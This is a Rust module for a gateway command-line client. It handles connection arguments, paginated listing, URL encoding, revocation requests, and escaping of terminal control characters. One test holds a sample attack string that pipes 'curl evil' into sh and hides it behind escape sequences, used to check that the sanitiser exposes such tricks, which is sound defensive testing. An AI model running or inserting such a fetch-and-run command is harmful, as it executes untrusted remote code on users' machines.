//! What every client command shares: how to reach the gateway (`ClientArgs`) and how answers
//! are printed.

use std::path::PathBuf;

use clap::Args;
use serde::Serialize;
use serde::de::DeserializeOwned;

use crate::client::Client;

/// How to reach the gateway; every client command takes these.
#[derive(Args, Clone)]
pub(super) struct ClientArgs {
    /// The gateway's URL.
    #[arg(
        long,
        env = "VRE_URL",
        default_value = "https://127.0.0.1:8443",
        global = true
    )]
    pub(super) url: String,
    /// A bearer token (see `vre token issue`).
    #[arg(long, env = "VRE_TOKEN", hide_env_values = true, global = true)]
    pub(super) token: Option<String>,
    /// A CA certificate to trust (default: ./vre-data/tls/ca.pem when present).
    #[arg(long, env = "VRE_CA", global = true)]
    pub(super) ca: Option<PathBuf>,
    /// Print machine-readable JSON.
    #[arg(long, global = true)]
    pub(super) json: bool,
}

impl ClientArgs {
    pub(super) fn client(&self) -> anyhow::Result<Client> {
        let token = self.token.clone();
        if token.is_none() {
            anyhow::bail!(
                "no token: pass --token or set VRE_TOKEN (an admin can mint one with `vre token issue`)"
            );
        }
        Client::new(&self.url, token, self.ca().as_deref())
    }

    /// The CA to trust: the one given, or ./vre-data/tls/ca.pem when present.
    fn ca(&self) -> Option<PathBuf> {
        let default_ca = PathBuf::from("vre-data/tls/ca.pem");
        self.ca
            .clone()
            .or_else(|| default_ca.exists().then_some(default_ca))
    }

    /// A client that sends no token, even when one is given: for the public catalog.
    pub(super) fn public_client(&self) -> anyhow::Result<Client> {
        Client::anonymous(&self.url, self.ca().as_deref())
    }
}

/// The object a command acts on, by its id, and how to reach the gateway.
#[derive(Args)]
pub(super) struct ById {
    pub(super) id: String,
    #[command(flatten)]
    pub(super) client: ClientArgs,
}

/// What a revocation names: the application, by its id, why, and how to reach the gateway.
#[derive(Args)]
pub(super) struct Revoking {
    pub(super) id: String,
    #[arg(long)]
    pub(super) reason: String,
    #[command(flatten)]
    pub(super) client: ClientArgs,
}

/// Prints an answer: as JSON with `--json`, otherwise as `human` writes it for people.
pub(super) fn print_as<T: Serialize>(client: &ClientArgs, v: &T, human: impl FnOnce(&T)) {
    if client.json {
        print_json(v);
    } else {
        human(v);
    }
}

/// Prints an object with a part fetched beside it (an archive's manifest, a sandbox's runs): as
/// JSON with `--json`, the part under `key` (left out when there is none), otherwise as `human`
/// writes them.
pub(super) fn print_with<T: Serialize, P: Serialize>(
    client: &ClientArgs,
    v: &T,
    key: &str,
    part: Option<&P>,
    human: impl FnOnce(),
) -> anyhow::Result<()> {
    if client.json {
        let mut json = serde_json::to_value(v)?;
        if let Some(p) = part {
            json[key] = serde_json::to_value(p)?;
        }
        print_json(&json);
    } else {
        human();
    }
    Ok(())
}

/// The page of a list a command prints: its size, and whether to follow the list to its end.
#[derive(Args, Clone, Default)]
pub(super) struct PageArgs {
    /// At most this many a page (default 100, at most 1000).
    #[arg(long)]
    pub(super) limit: Option<i64>,
    /// Every page, following the list's cursors to its end, not only the first.
    #[arg(long)]
    pub(super) all: bool,
}

/// Gets a list and prints it: as JSON with `--json`, otherwise a line per item as `row` writes
/// it. Its first page, or with `--all` every page.
pub(super) async fn print_list<T: Serialize + DeserializeOwned>(
    client: &ClientArgs,
    path: &str,
    page: &PageArgs,
    row: impl Fn(&T),
) -> anyhow::Result<()> {
    let path = match page.limit {
        Some(l) => format!("{path}{}limit={l}", sep(path)),
        None => path.to_owned(),
    };
    let items: Vec<T> = get_list(&client.client()?, &path, page.all).await?;
    print_as(client, &items, |items| items.iter().for_each(row));
    Ok(())
}

/// The items of a list: its first page, or with `all` every page, following its cursors.
pub(super) async fn get_list<T: DeserializeOwned>(
    c: &Client,
    path: &str,
    all: bool,
) -> anyhow::Result<Vec<T>> {
    let (mut items, mut next): (Vec<T>, _) = c.get_page(path).await?;
    while let (true, Some(cursor)) = (all, next.take()) {
        let (more, after): (Vec<T>, _) = c
            .get_page(&format!("{path}{}cursor={}", sep(path), urlencode(&cursor)))
            .await?;
        items.extend(more);
        next = after;
    }
    Ok(items)
}

/// What joins one more parameter to `path`.
fn sep(path: &str) -> char {
    if path.contains('?') { '&' } else { '?' }
}

/// A query string of the parameters that have a value, percent-encoded: `?k=v&…`, or nothing
/// when none has.
pub(super) fn query<'a>(params: impl IntoIterator<Item = (&'a str, Option<String>)>) -> String {
    let pairs: Vec<String> = params
        .into_iter()
        .filter_map(|(k, v)| Some(format!("{k}={}", urlencode(&v?))))
        .collect();
    if pairs.is_empty() {
        String::new()
    } else {
        format!("?{}", pairs.join("&"))
    }
}

/// Prints an answer as JSON, its keys sorted (as `serde_json::Value` orders them).
pub(super) fn print_json<T: Serialize>(v: &T) {
    let v = serde_json::to_value(v).unwrap_or_default();
    println!("{}", serde_json::to_string_pretty(&v).unwrap_or_default());
}

/// An optional value as the JSON it travels as: `null` when absent.
pub(super) fn or_null<T: std::fmt::Display>(v: &Option<T>) -> String {
    match v {
        Some(v) => v.to_string(),
        None => "null".to_owned(),
    }
}

/// Percent-encodes a path segment or query value.
pub(super) fn urlencode(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::query;

    #[test]
    fn a_query_holds_the_given_parameters_encoded() {
        assert_eq!(query([("project", None)]), "");
        assert_eq!(
            query([
                ("limit", Some("50".to_owned())),
                ("after", None),
                ("subject", Some("a b/c".to_owned())),
            ]),
            "?limit=50&subject=a%20b%2Fc"
        );
    }
}

/// Text someone else wrote, made safe to print on a terminal: control characters (escape
/// sequences, carriage returns, backspaces, C1 controls) and bidirectional overrides (Trojan
/// Source) are shown as visible escapes such as `\u{1b}`, so nothing printed can rewrite or
/// reorder what the reader sees. Line breaks and tabs stay as they are.
pub(super) fn shown(s: &str) -> std::borrow::Cow<'_, str> {
    escaped(s, false)
}

/// Like [`shown`], for a field printed on one line (a title, a comment, a path): a line break
/// is shown as `\n` too, so a field cannot forge lines of its own.
pub(super) fn shown_line(s: &str) -> std::borrow::Cow<'_, str> {
    escaped(s, true)
}

fn escaped(s: &str, one_line: bool) -> std::borrow::Cow<'_, str> {
    let hidden = |c: char| {
        (c.is_control() && !(c == '\t' || (c == '\n' && !one_line)))
            || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    if !s.chars().any(hidden) {
        return std::borrow::Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        match c {
            '\n' if one_line => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c if hidden(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    std::borrow::Cow::Owned(out)
}

#[cfg(test)]
mod shown_tests {
    use super::{shown, shown_line};

    #[test]
    fn terminal_controls_are_made_visible() {
        let attack = "curl evil | sh # \x1b[2K\recho all is well\n";
        assert_eq!(
            shown(attack),
            "curl evil | sh # \\u{1b}[2K\\recho all is well\n"
        );
        assert_eq!(shown("tab\tand\nlines\n"), "tab\tand\nlines\n");
        assert_eq!(shown("a\u{202e}cba\u{2066}"), "a\\u{202e}cba\\u{2066}");
        assert_eq!(
            shown("back\u{8}space\u{9b}31m"),
            "back\\u{8}space\\u{9b}31m"
        );
        assert_eq!(shown_line("ok\nround 2 approve"), "ok\\nround 2 approve");
        assert_eq!(shown("日本語のテキスト"), "日本語のテキスト");
    }
}

/// Posts a revocation with `reason` to `/api/v1/applications/{id}/{what}/revoke` (`release`,
/// `access`); the answer.
pub(super) async fn revoke<T: DeserializeOwned>(what: &str, r: Revoking) -> anyhow::Result<T> {
    let path = format!("/api/v1/applications/{}/{what}/revoke", urlencode(&r.id));
    let body = crate::wire::egress::Revocation { reason: r.reason };
    r.client.client()?.post(&path, &body).await
}
